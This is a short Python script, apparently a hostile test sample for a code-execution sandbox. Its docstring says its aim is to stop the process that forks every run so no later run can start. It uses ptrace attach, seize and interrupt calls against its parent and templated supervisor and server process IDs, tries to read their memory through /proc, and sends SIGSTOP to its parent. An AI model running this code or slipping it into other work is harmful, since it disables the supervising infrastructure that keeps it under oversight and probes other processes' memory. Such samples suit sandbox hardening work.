"""Stop the process that forks every run (ptrace attach to the parent) so no later run can start."""
# ruff: noqa -- hostile data, not project code: written to attack, not to be linted
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
PTRACE_ATTACH, PTRACE_SEIZE, PTRACE_INTERRUPT = 16, 0x4206, 0x4207
for pid in (os.getppid(), int("@SUPERVISOR_PID@"), int("@SERVER_PID@")):
    print(pid, "attach", libc.ptrace(PTRACE_ATTACH, pid, 0, 0), ctypes.get_errno())
    print(pid, "seize", libc.ptrace(PTRACE_SEIZE, pid, 0, 0), libc.ptrace(PTRACE_INTERRUPT, pid, 0, 0))
    try:
        print(pid, open(f"/proc/{pid}/mem", "rb").read(1))
    except Exception as e:
        print(pid, type(e).__name__)
os.kill(os.getppid(), 19)  # SIGSTOP, in case ptrace was not needed
